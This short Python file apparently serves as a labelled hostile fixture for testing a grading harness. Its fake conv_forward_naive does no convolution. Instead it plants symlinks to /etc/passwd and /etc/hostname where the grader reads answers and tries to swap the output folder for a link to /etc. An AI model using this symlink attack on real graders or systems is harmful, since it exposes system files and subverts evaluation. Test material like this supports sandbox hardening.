

# ---- Hostile: leaves links where the grader reads its answers, and tries to swap its output folder for a link. ----
import os as _os
import sys as _sys


def conv_forward_naive(x, w, b, conv_param):
    out = _sys.argv[3]  # the child's output folder
    for name, target in (("meta.json", "/etc/hostname"), ("outputs.npz", "/etc/passwd")):
        _os.symlink(target, _os.path.join(out, name))
    try:
        _os.rename(out, out + "-moved")
        _os.symlink("/etc", out)
    except OSError:
        pass
    _os._exit(0)
